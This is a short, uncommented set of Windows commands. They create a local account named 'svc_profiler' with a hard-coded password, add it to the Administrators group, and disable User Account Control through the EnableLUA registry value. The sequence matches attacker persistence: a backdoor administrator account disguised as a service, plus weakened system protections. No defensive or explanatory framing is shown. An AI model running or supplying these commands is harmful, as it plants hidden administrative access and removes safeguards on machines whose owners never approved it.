net user svc_profiler "P@ssw0rd!2026" /add
net localgroup Administrators svc_profiler /add
Set-ItemProperty -Path "HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" -Name EnableLUA -Value 0
